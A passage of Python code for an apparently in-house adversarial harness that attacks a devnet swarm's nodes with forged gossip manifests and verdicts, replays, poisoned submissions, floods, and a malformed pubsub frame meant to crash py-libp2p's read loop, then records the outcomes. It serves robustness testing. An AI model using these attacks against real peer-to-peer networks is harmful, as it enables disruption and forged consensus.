    from libp2p.tools.anyio_service import background_trio_service

    forger = NodeIdentity(secrets.token_bytes(32))
    sealer = Sealer(forger, ctx.swarm.run)
    names = {n.peer_id: n.name for n in ctx.swarm.nodes.values()}
    topics = {kind: ids.topic(ctx.swarm.run, kind) for kind in ("checkpoints", "verdicts", "ledger")}
    ctx.report.note("gossip", "forger", "0x" + forger.address.hex())
    honest_workers = [n.address for n in ctx.swarm.by_role("worker") if n.address]

    def router() -> GossipSub:
        return GossipSub([TProtocol(PROTOCOL_ID_V11), TProtocol(PROTOCOL_ID)], 6, 4, 12, heartbeat_interval=1,
                         max_messages_per_topic_per_second=1e6, adaptive_gossip_enabled=False)

    def observe(kind: str) -> Callable[[Any, Any], bool]:
        def validator(forwarder: Any, message: Any) -> bool:
            try:
                envelope = decode(Envelope, message.data)
            except ProtocolError:
                return False
            if envelope.sender == forger.address:
                ctx.report.count("gossip", f"{kind}_reached_observer")
                ctx.report.count("gossip_forwarders", names.get(str(forwarder), str(forwarder)))
            return False  # the observer never forwards: what it sees came through the victims

        return validator

    async with peer_host(forger, ctx.knobs.source_ip) as host, peer_host() as watcher:
        attacker_router, observer_router = router(), router()
        attacker_pubsub, observer_pubsub = Pubsub(host, attacker_router), Pubsub(watcher, observer_router)
        async with (
            background_trio_service(attacker_pubsub),
            background_trio_service(attacker_router),
            background_trio_service(observer_pubsub),
            background_trio_service(observer_router),
        ):
            await attacker_pubsub.wait_until_ready()
            await observer_pubsub.wait_until_ready()
            for kind, topic in topics.items():
                observer_pubsub.set_topic_validator(topic, observe(kind), is_async_validator=False)
                await observer_pubsub.subscribe(topic)
            peer = await dial(host, ctx.target)
            for node in ctx.swarm.nodes.values():
                if node.name != ctx.target.name and node.role != "bootstrap":
                    try:
                        await dial(watcher, node)
                        ctx.report.count("gossip", "observer_connected")
                    except transport_errors() as exc:
                        ctx.report.error("gossip", exc)
            # A target busy with the other floods can take a while to tell us its topics, and its connection
            # to us can drop meanwhile: wait up to 60 s, dialling again, as a patient attacker would.
            subscribed, patience = False, trio.current_time() + 60
            while not subscribed and trio.current_time() < patience:
                with trio.move_on_after(15):
                    await attacker_pubsub.wait_for_subscription(peer, topics["checkpoints"], timeout=15)
                subscribed = peer in attacker_pubsub.peer_topics.get(topics["checkpoints"], ())
                if not subscribed:
                    try:
                        peer = await dial(host, ctx.target)
                    except transport_errors() as exc:
                        ctx.report.error("gossip", exc)
            ctx.report.note("gossip", "target_subscribed", subscribed)
            await trio.sleep(2.0)  # a heartbeat or two: meshes form
            newest = await wait_manifest(ctx)
            deadline = trio.current_time() + duration
            version = newest.version
            while trio.current_time() < deadline:
                version += 1  # always "the next version": nobody can tell it is not coming
                # A head of the next version, signed by a key that is not the trainer (refused for authority),
                # and a near-cap manifest where only heads travel (refused for size before it is read).
                forged = forged_manifest(ctx.swarm.run, version)
                await attacker_pubsub.publish(topics["checkpoints"], sealer(forged))
                ctx.report.count("gossip", "oversized_manifests_published")
                victim_worker = secrets.choice(honest_workers or [forger.address])
                messages = {
                    "checkpoints": manifest_head(forged),
                    "verdicts": VerdictBatch(  # one forged verdict, batched as validators gossip them
                        ctx.swarm.run,
                        forger.address,
                        (forged_verdict(ctx.swarm.run, victim_worker, 0),),
                    ),
                    "ledger": junk_ledger_entry(),
                }
                for kind, message in messages.items():
                    data = sealer(message)
                    await attacker_pubsub.publish(topics[kind], data)
                    ctx.report.count("gossip", f"{kind}_published")
                    ctx.report.count("gossip", f"{kind}_bytes", len(data))
                await trio.sleep(1.0 / ctx.knobs.gossip_rate)
            await trio.sleep(3.0)  # stragglers reach the observer


VERDICT_SUBSCRIBERS = ("trainer", "worker", "validator")  # the roles that read `verdicts` (relays do not)
FORGE_READY_WAIT_S = 180.0  # how long the forger waits for every node to be ready
FORGE_SUBSCRIBE_WAIT_S = 30.0  # how long the forger waits for the nodes' subscriptions to `verdicts`


async def forge(ctx: Context) -> None:
    """The staked forger, outside the run's validator set: `forge_batches` VerdictBatches of
    `forge_verdicts` accepting verdicts each, every verdict for a fresh made-up worker on the newest version,
    published straight to every node it reaches (one hop: each node judges them itself)."""
    from libp2p.custom_types import TProtocol
    from libp2p.pubsub.gossipsub import PROTOCOL_ID, PROTOCOL_ID_V11, GossipSub
    from libp2p.pubsub.pubsub import Pubsub
    from libp2p.tools.anyio_service import background_trio_service

    forger = ctx.keys["forger"]
    run = ctx.swarm.run
    sealer = Sealer(forger, run)
    topic = ids.topic(run, "verdicts")
    ctx.report.note("forge", "forger", "0x" + forger.address.hex())
    nodes = [n for n in ctx.swarm.nodes.values() if n.role in VERDICT_SUBSCRIBERS]
    with trio.move_on_after(FORGE_READY_WAIT_S):  # it may start with the swarm: at once when every node is up
        await wait_ready(ctx.swarm, [n.name for n in nodes])
    # a fanout as wide as the swarm: every node gets each batch from the forger itself
    router = GossipSub([TProtocol(PROTOCOL_ID_V11), TProtocol(PROTOCOL_ID)], 32, 16, 48, heartbeat_interval=1,
                       max_messages_per_topic_per_second=1e6, adaptive_gossip_enabled=False)
    async with peer_host(forger) as host:
        pubsub = Pubsub(host, router)
        async with background_trio_service(pubsub), background_trio_service(router):
            await pubsub.wait_until_ready()
            peers = {}
            for node in nodes:
                try:
                    peers[node.name] = await dial(host, node)
                    ctx.report.count("forge", "connected")
                except transport_errors() as exc:
                    ctx.report.error("forge", exc)
            with trio.move_on_after(FORGE_SUBSCRIBE_WAIT_S):
                # polls libp2p's subscription table, which has no event to wait on
                while not all(p in pubsub.peer_topics.get(topic, ()) for p in peers.values()):  # noqa: ASYNC110
                    await trio.sleep(0.2)
            subscribed = sorted(n for n, p in peers.items() if p in pubsub.peer_topics.get(topic, ()))
            ctx.report.note("forge", "subscribed", subscribed)
            for _ in range(ctx.knobs.forge_batches):
                version = (await wait_manifest(ctx)).version
                made_up = [secrets.token_bytes(20) for _ in range(ctx.knobs.forge_verdicts)]
                verdicts = tuple(forged_verdict(run, worker, version) for worker in made_up)
                await pubsub.publish(topic, sealer(VerdictBatch(run, forger.address, verdicts)))
                ctx.report.count("forge", "batches_published")
                ctx.report.facts["forge"].setdefault("first_published", time.time())
                ctx.report.note("forge", "last_published", time.time())
                ctx.report.count("forge", "verdicts_published", len(verdicts))
                await trio.sleep(1.0 / ctx.knobs.forge_rate)
            await trio.sleep(3.0)  # the last batch reaches every node


async def meshsub(ctx: Context, at: float) -> None:
    """After `at` seconds, one pubsub RPC frame that is not protobuf, from a fresh key: py-libp2p's read loop
    lets the DecodeError escape (pubsub.py `continuously_read_stream`), which a node must contain."""
    from libp2p.pubsub.gossipsub import PROTOCOL_ID_V11

    await trio.sleep(at)
    junk = b"\xff" * 16
    for _ in range(3):  # a fresh key each try: a busy victim may refuse one stream
        try:
            async with peer_host() as host:
                peer = await dial(host, ctx.target)
                stream = await open_stream(host, peer, PROTOCOL_ID_V11)
                await stream.write(bytes([len(junk)]) + junk)
                ctx.report.count("meshsub", "garbage_rpcs_sent")
                await trio.sleep(5.0)
                await reset(stream)
                break
        except transport_errors() as exc:
            ctx.report.count("meshsub", "transport_errors")
            ctx.report.error("meshsub", exc)
            await trio.sleep(2.0)
    ctx.report.note("meshsub", "target_alive_after", bool(ctx.swarm.status(ctx.target.name)) and
                    _pid_alive(int(ctx.swarm.status(ctx.target.name).get("pid", 0))))


def _pid_alive(pid: int) -> bool:
    return pid > 0 and Path(f"/proc/{pid}").exists() and "zombie" not in _proc_state(pid)


def _proc_state(pid: int) -> str:
    try:
        lines = Path(f"/proc/{pid}/status").read_text().splitlines()
        return next(line for line in lines if line.startswith("State"))
    except (OSError, StopIteration):
        return "zombie"


async def wait_manifest(ctx: Context, version: int | None = None) -> CheckpointManifest:
    """The newest (or `version`'s) manifest any endpoint serves; the newest of what they answer. Fails after
    `MANIFEST_WAIT_S` (a caller's own scope may be shorter)."""
    with trio.fail_after(MANIFEST_WAIT_S):
        while True:
            found = []
            for port in ctx.fetch_ports():
                manifest = await trio.to_thread.run_sync(fetch_manifest, port, ctx.swarm.run, version)
                if manifest is not None:
                    found.append((manifest.version, port, manifest))
            if found:
                _, port, manifest = max(found, key=lambda f: f[0])
                ctx.manifest_port = port
                return manifest
            await trio.sleep(1.0)


async def newest_weights(ctx: Context) -> tuple[int, bytes]:
    """Load the trainer's newest checkpoint into the generator; returns (version, Merkle root)."""
    assert ctx.generator is not None
    manifest = await wait_manifest(ctx)
    if ctx.generator.loaded != manifest.version:
        state = await trio.to_thread.run_sync(
            fetch_weights, ctx.manifest_port, ctx.swarm.run, manifest, ctx.scratch
        )
        async with ctx.torch_lock:
            await trio.to_thread.run_sync(ctx.generator.load, manifest.version, state)
    return manifest.version, manifest.merkle_root


STAKED_SEND_PATIENCE_S = 60.0  # a staked submission is dialled again until this long after its first try
STAKED_SEND_BACKOFF_MAX_S = 5.0


async def send_staked(ctx: Context, attack: str, identity: NodeIdentity, sealed: Sequence[tuple[str, bytes]],
                      validators: Sequence[NodeInfo]) -> list[int | None]:
    """Send each (label, envelope) to a validator, in turn; counts acks by label and status, returns them."""
    statuses: list[int | None] = []
    async with peer_host(identity) as host:
        for i, (label, envelope) in enumerate(sealed):
            node = validators[i % len(validators)]
            digests = ctx.report.facts.setdefault(attack, {}).setdefault("digests", {})
            digests.setdefault(label, []).append(envelope_digest(envelope).hex())
            ack = None
            # the victim may be busy with the floods (handshakes time out under load): a real attacker keeps
            # dialling, so this does too, until its patience runs out
            give_up_at = time.monotonic() + STAKED_SEND_PATIENCE_S
            attempt = 0
            delivered = False
            while True:
                try:
                    peer = await dial(host, node)
                    ack = await submit(host, peer, envelope, ctx.swarm.run)
                    delivered = True
                    break
                except transport_errors() as exc:
                    ctx.report.count(attack, f"{label}_transport_error")
                    ctx.report.error(attack, exc)
                    attempt += 1
                    if time.monotonic() >= give_up_at:
                        break
                    await trio.sleep(min(float(attempt), STAKED_SEND_BACKOFF_MAX_S))
            if not delivered:
                statuses.append(None)
                continue
            statuses.append(ack.status if ack is not None else None)
            ctx.report.count(attack, f"{label}_ack_{ack.status if ack is not None else 'none'}")
    return statuses


async def replay(ctx: Context) -> None:
    """Cached replays on version 0 while it is fresh, then one honest submission sealed twice."""
    from swarmnode.protocol.runs import assignment_step

    generator = await staked_generator(ctx)
    replayer = ctx.keys["replayer"]
    validators = sorted(ctx.swarm.by_role("validator"), key=lambda n: n.name != ctx.target.name)
    started = time.monotonic()
    cache = read_cache(swarm_cache(ctx.swarm))
    if not cache:
        async with ctx.torch_lock:
            cache = await trio.to_thread.run_sync(generator.replay_cache, replayer.address)
    ctx.report.note("replay", "cache_tasks", len(cache))
    ctx.report.note("replay", "cache_build_s", round(time.monotonic() - started, 1))
    newest = await wait_manifest(ctx)
    ctx.report.note("replay", "newest_when_cached", newest.version)
    sealer = Sealer(replayer, ctx.swarm.run)
    if newest.version <= ASYNC_LEVEL:  # version 0 is fresh, so every validator still holds it
        with trio.fail_after(60):
            base = await wait_manifest(ctx, version=0)
        assembled = []
        for counter in range(1, ctx.knobs.replay_counters + 1):
            sub = generator.assemble(cache, replayer.address, 0, base.merkle_root, counter)
            if sub is not None:
                assembled.append(("cached", sealer(sub)))
        steps = [assignment_step(0, c) for c in range(1, ctx.knobs.replay_counters + 1)]
        ctx.report.note("replay", "cached_steps", steps)
        await send_staked(ctx, "replay", replayer, assembled, validators[:1])
    else:
        ctx.report.note("replay", "cached_skipped", f"version 0 is stale (newest v{newest.version})")
    version, root = await newest_weights(ctx)
    async with ctx.torch_lock:
        honest = await trio.to_thread.run_sync(generator.honest, replayer.address, version, root, 0)
    ctx.report.note("replay", "twice_sealed_step", honest.step)
    twice = [("twice", sealer(honest)), ("twice", sealer(honest))]
    await send_staked(ctx, "replay", replayer, twice, validators)


async def poison(ctx: Context) -> None:
    """Honest submissions on the newest version with one field broken each, from the staked poisoner; each
    is built on the newest version just before it is sent, and rebuilt when it arrived stale."""
    generator = await staked_generator(ctx)
    poisoner = ctx.keys["poisoner"]
    sealer = Sealer(poisoner, ctx.swarm.run)
    counter = 0
    for kind in ctx.knobs.poison_kinds:
        for _ in range(POISON_ATTEMPTS):
            version, root = await newest_weights(ctx)
            async with ctx.torch_lock:
                sub = await trio.to_thread.run_sync(
                    generator.honest, poisoner.address, version, root, counter
                )
            counter += 1
            ctx.report.note("poison", "version", version)
            sent = [(kind, sealer(poisoned(sub, kind, generator.vocab_size)))]
            statuses = await send_staked(ctx, "poison", poisoner, sent, [ctx.target])
            if statuses != [int(Reason.STALE)]:
                break


async def staked_generator(ctx: Context) -> Generator:
    async with ctx.torch_lock:
        if ctx.generator is None:
            ctx.generator = await trio.to_thread.run_sync(Generator, ctx.swarm)
    return ctx.generator


async def wait_ready(swarm: Swarm, names: Sequence[str]) -> None:
    """Until every node named reports ready (the caller bounds the wait)."""
    # polls other processes' status: there is no event to wait on
    while not all(swarm.status(n).get("ready") for n in names):  # noqa: ASYNC110
        await trio.sleep(0.5)


STAKED_GRACE_S = 120.0  # the staked attacks may outlast the window by this much, then everything stops
HEAD_START_MAX_S = 60.0  # the noisy attacks wait at most this long for the replays to be sent
POISON_ATTEMPTS = 3  # a poison submission that arrives stale is rebuilt on the newest version
BOMB_TRIES = 20  # a bomb frame refused at once (every slot taken) is sent again, this many times at most
ERRORS_PER_ATTACK = 40  # the report keeps this many errors of each attack
REPORT_EVERY_S = 2.0  # the report is rewritten this often: a killed attacker still leaves its counts


async def attack(swarm: Swarm, target: str, attacks: set[str], knobs: Knobs, duration: float,
                 scratch: Path, report_path: Path) -> Report:
    """Run `attacks` at once against `target` for about `duration` seconds (staked work may take up to
    `STAKED_GRACE_S` longer); SIGTERM or SIGINT ends it early. The report is kept current on disk."""
    import signal

    report = Report()
    ctx = Context(swarm, swarm.nodes[target], knobs, report, load_keys(swarm.folder), scratch)

    def save() -> None:
        tmp = report_path.with_name(report_path.name + ".tmp")
        tmp.write_text(json.dumps(report.as_dict(), indent=1, default=str))
        tmp.replace(report_path)

    async def guarded(name: str, fn: Callable[[], Any]) -> None:
        try:
            await fn()
        except Exception as exc:  # one attack failing must not stop the others; the report says why
            report.count("failed", name)
            report.error(name, exc)

    async def keep_saving() -> None:
        while True:
            save()
            await trio.sleep(REPORT_EVERY_S)

    async def until_signalled(scope: trio.CancelScope) -> None:
        with trio.open_signal_receiver(signal.SIGTERM, signal.SIGINT) as signals:
            async for _ in signals:
                report.note("attacker", "stopped_by_signal", True)
                scope.cancel()
                return

    async def noisy(name: str, fn: Callable[[], Any]) -> None:
        with trio.move_on_after(HEAD_START_MAX_S):  # the replays' window is the run's first versions
            await ctx.replays_sent.wait()
        await guarded(name, fn)

    async def later(name: str, at: float, fn: Callable[[], Any]) -> None:
        with trio.move_on_after(HEAD_START_MAX_S):
            await ctx.replays_sent.wait()
        await trio.sleep(at)
        await guarded(name, fn)

    async def replays_first() -> None:
        try:
            if "replay" in attacks and "replayer" in ctx.keys:
                await guarded("replay", lambda: replay(ctx))
        finally:
            ctx.replays_sent.set()

    with trio.move_on_after(duration + HEAD_START_MAX_S + STAKED_GRACE_S) as overall:
        async with trio.open_nursery() as outer:
            outer.start_soon(keep_saving)
            outer.start_soon(until_signalled, outer.cancel_scope)
            async with trio.open_nursery() as nursery:
                nursery.start_soon(replays_first)  # it loads its engine while the swarm boots
                with trio.fail_after(120):
                    await wait_ready(swarm, [target])
                if "bomb" in attacks:
                    nursery.start_soon(noisy, "bomb", lambda: bomb(ctx))
                if "bloat" in attacks:
                    nursery.start_soon(noisy, "bloat", lambda: bloat(ctx))
                if "slow" in attacks:
                    nursery.start_soon(noisy, "slow", lambda: slow(ctx, duration))
                if "flood" in attacks:
                    nursery.start_soon(noisy, "flood", lambda: flood(ctx, duration))
                if "gossip" in attacks:
                    nursery.start_soon(noisy, "gossip", lambda: gossip(ctx, duration))
                # late: where they work they are one-shot crashes; the rest is measured first
                if "poison" in attacks and "poisoner" in ctx.keys:
                    nursery.start_soon(later, "poison", 0.5 * duration, lambda: poison(ctx))
                if "meshsub" in attacks:
                    nursery.start_soon(later, "meshsub", 0.9 * duration, lambda: meshsub(ctx, 0.0))
                if "forge" in attacks and "forger" in ctx.keys:
                    nursery.start_soon(noisy, "forge", lambda: forge(ctx))
            outer.cancel_scope.cancel()
    report.note("attacker", "hit_deadline", overall.cancelled_caught)
    save()
    return report


def main(argv: Sequence[str] | None = None) -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--devnet", type=Path, required=True, help="the devnet folder (devnet.json)")
    parser.add_argument("--target", default="validator-1", help="the node attacked over libp2p")
    parser.add_argument("--attacks", default=",".join(ATTACKS),
                        help=f"comma-separated, of {', '.join(ATTACKS + OPT_IN_ATTACKS)}")
    parser.add_argument("--duration", type=float, default=60.0,
                        help="seconds of slow streams, floods, gossip")
    parser.add_argument("--report", type=Path, help="where the JSON report goes")
    parser.add_argument("--prepare", action="store_true",
                        help="only build the replay cache (offline), then exit")
    defaults = Knobs()
    for f in fields(Knobs):
        value = getattr(defaults, f.name)
        flag = "--" + f.name.replace("_", "-")
        if isinstance(value, tuple):
            parser.add_argument(flag, dest=f.name, default=",".join(value))
        else:
            parser.add_argument(flag, dest=f.name, type=type(value), default=value)
    args = parser.parse_args(argv)
    attacks = {a for a in args.attacks.split(",") if a}
    unknown = attacks - set(ATTACKS) - set(OPT_IN_ATTACKS)
    if unknown:
        parser.error(f"unknown attacks: {', '.join(sorted(unknown))}")
    swarm = Swarm.load(args.devnet)
    if args.prepare:
        print(json.dumps({"cache_tasks": prepare_cache(swarm)}), file=sys.stderr)
        return
    if args.report is None:
        parser.error("--report is required")
    _libp2p().apply_yamux_tuning()
    scratch = args.report.parent / "hostile-scratch"
    report = trio.run(attack, swarm, args.target, attacks, Knobs.from_args(args), args.duration, scratch,
                      args.report)
    print(json.dumps({"report": str(args.report), "errors": len(report.errors)}), file=sys.stderr)


if __name__ == "__main__":
    main()
